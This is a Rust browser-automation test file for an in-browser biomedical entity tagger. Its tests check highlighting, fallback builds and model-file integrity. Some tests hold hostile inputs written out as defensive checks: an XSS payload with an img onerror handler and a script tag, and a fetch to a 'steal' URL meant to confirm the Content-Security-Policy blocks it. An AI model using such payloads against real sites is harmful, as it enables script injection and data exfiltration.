//! The model loads and highlights; both worker builds tag alike; a failed or tampered download is
//! reported and Retry recovers.

use std::time::Duration;

use fantoccini::Locator;
use serde_json::json;

use crate::support::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_loads_the_model_and_highlights_entities_as_text() {
    let server = serve(dist());
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();

    let privacy = browser
        .wait_for(".privacy", Duration::from_secs(30))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        privacy.contains("never leaves this page"),
        "privacy statement: {privacy}"
    );
    let ready = browser
        .wait_for(".status .ready", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(ready.starts_with("Model ready in"), "{ready}");
    browser.wait_for(".legend li", Duration::from_secs(5)).await;
    let mut legend = Vec::new();
    for item in browser
        .client()
        .find_all(Locator::Css(".legend li"))
        .await
        .unwrap()
    {
        legend.push(item.text().await.unwrap());
    }
    assert_eq!(legend, ["Chemical", "Disease"]);

    the_sentence_is_highlighted_with_confidences(&browser).await;
    typed_markup_stays_text(&browser).await;
    multi_byte_offsets_land_on_their_characters(&browser).await;
    blank_input_shows_a_hint(&browser).await;
    the_csp_blocks_other_origins(&browser).await;
    browser.close().await;
}

/// The sentence's entities are highlighted, each tooltip with its confidence.
async fn the_sentence_is_highlighted_with_confidences(browser: &Browser) {
    browser.type_text(SENTENCE).await;
    let marks = browser.annotated(SENTENCE).await;
    let found = texts_and_labels(&marks);
    assert_eq!(found, SENTENCE_ENTITIES);
    for (_, label, title) in &marks {
        // "Disease · 87% confidence", then " · MeSH D007674 Kidney Diseases" once linked.
        let confidence = title
            .strip_prefix(&format!("{label} · "))
            .and_then(|t| t.split(" · ").next())
            .and_then(|t| t.strip_suffix("% confidence"));
        assert!(
            confidence.is_some_and(|p| p.parse::<u8>().is_ok()),
            "tooltip {title:?}"
        );
    }
}

/// User text is text: markup typed into the box is shown, never parsed or run.
async fn typed_markup_stays_text(browser: &Browser) {
    let hostile = r#"Aspirin <img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script> caused <b>nausea</b>."#;
    browser.type_text(hostile).await;
    browser.annotated(hostile).await;
    let injected = browser
        .client()
        .find_all(Locator::Css(".result img, .result script, .result b"))
        .await
        .unwrap();
    assert!(
        injected.is_empty(),
        "typed markup became {} element(s)",
        injected.len()
    );
    let pwned = browser
        .client()
        .execute("return window.__pwned === undefined;", vec![])
        .await
        .unwrap();
    assert_eq!(pwned, json!(true), "typed markup ran a script");
}

/// Byte offsets from the worker land on the right characters in multi-byte text.
async fn multi_byte_offsets_land_on_their_characters(browser: &Browser) {
    let shown = browser
        .paste_text("Café 💊 β-blockers: cisplatin caused 肝炎 and nephrotoxicity.\r\nNo aspirin.")
        .await;
    let marks = browser.annotated(&shown).await;
    assert!(
        marks
            .iter()
            .any(|(t, l, _)| t == "cisplatin" && l == "Chemical"),
        "{marks:?}"
    );
    assert!(
        marks
            .iter()
            .any(|(t, l, _)| t == "nephrotoxicity" && l == "Disease"),
        "{marks:?}"
    );
    for (text, _, _) in &marks {
        assert!(
            shown.contains(text.as_str()) && !text.contains('\u{FFFD}'),
            "mangled highlight {text:?}"
        );
    }
}

/// Blank input: a hint, no stale result.
async fn blank_input_shows_a_hint(browser: &Browser) {
    browser.paste_text("   ").await;
    let hint = browser
        .wait_for(".result .hint", Duration::from_secs(10))
        .await
        .text()
        .await
        .unwrap();
    assert!(hint.contains("Type or paste text"), "{hint}");
    assert!(browser
        .client()
        .find_all(Locator::Css(".annotated"))
        .await
        .unwrap()
        .is_empty());
}

/// The Content-Security-Policy stops the page from sending anything to another origin.
async fn the_csp_blocks_other_origins(browser: &Browser) {
    let outcome = browser
        .client()
        .execute_async(
            "const done = arguments[arguments.length - 1]; const violations = [];
             document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
             fetch('http://127.0.0.2:9/steal?text=secret')
               .then(() => false, () => true)
               .then((blocked) => setTimeout(() => done({ blocked, violations }), 100));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(outcome["blocked"], json!(true), "{outcome}");
    assert!(
        outcome["violations"]
            .as_array()
            .unwrap()
            .contains(&json!("connect-src")),
        "{outcome}"
    );
}

/// Opens the app with the server in `mode`; returns the model error the page shows instead of "ready".
async fn open_failing(mode: u8) -> (Server, Browser, String) {
    let server = serve(dist());
    server.set(mode);
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();
    let error = browser
        .wait_for(".status .error", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(browser
        .client()
        .find_all(Locator::Css(".status .ready"))
        .await
        .unwrap()
        .is_empty());
    (server, browser, error)
}

/// Once the server has the right files again, Retry loads the model.
async fn retry_recovers(server: &Server, browser: &Browser) {
    server.set(SERVE);
    browser
        .wait_for("button.retry", Duration::from_secs(5))
        .await
        .click()
        .await
        .unwrap();
    let ready = browser
        .wait_for(".status .ready", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(ready.starts_with("Model ready in"), "{ready}");
}

/// A browser without relaxed SIMD (simulated: the page's `WebAssembly.validate` refuses every
/// module, as such an engine refuses the probe) gets the baseline-SIMD worker, which tags the same.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_without_relaxed_simd_the_baseline_worker_tags_the_same() {
    let server = serve(dist());
    let browser = browser().await;
    browser.cdp("Page.enable", json!({})).await;
    browser
        .cdp(
            "Page.addScriptToEvaluateOnNewDocument",
            json!({ "source": "WebAssembly.validate = () => false;" }),
        )
        .await;
    browser.client().goto(&server.url).await.unwrap();
    browser.wait_for(".status .ready", READY_TIMEOUT).await;
    browser.type_text(SENTENCE).await;
    let marks = browser.annotated(SENTENCE).await;
    let found = texts_and_labels(&marks);
    assert_eq!(found, SENTENCE_ENTITIES);
    // The service worker, which the override does not reach, caches the relaxed build as this Chromium
    // has relaxed SIMD (e2e_no_request_… checks it fetches nothing else); the baseline build's files
    // can only have been asked for by the page and its worker.
    let paths: Vec<String> = server.requests().into_iter().map(|r| r.target).collect();
    for file in ["/worker_loader.js", "/worker_bg.wasm"] {
        assert!(
            paths.iter().any(|p| p == file),
            "the page did not load the baseline worker's {file}: {paths:?}"
        );
    }
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_a_failed_model_download_shows_an_error_and_retry_recovers() {
    let (server, browser, error) = open_failing(UNAVAILABLE).await;
    assert!(
        error.contains("The model could not be loaded: cannot download models/medlight-q8_0.safetensors: HTTP 503"),
        "error message: {error}"
    );
    assert!(server
        .requests()
        .iter()
        .any(|r| r.target.starts_with("/models/")));
    retry_recovers(&server, &browser).await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_a_tampered_model_file_fails_the_integrity_check() {
    let (server, browser, error) = open_failing(TAMPERED).await;
    assert!(
        error.contains("integrity check failed: models/medlight-q8_0.safetensors has SHA-256"),
        "error message: {error}"
    );
    assert!(error.contains("so it was not used"), "{error}");
    // The bad copy is not kept (not even in the offline cache): Retry downloads the file again.
    retry_recovers(&server, &browser).await;
    browser.close().await;
}
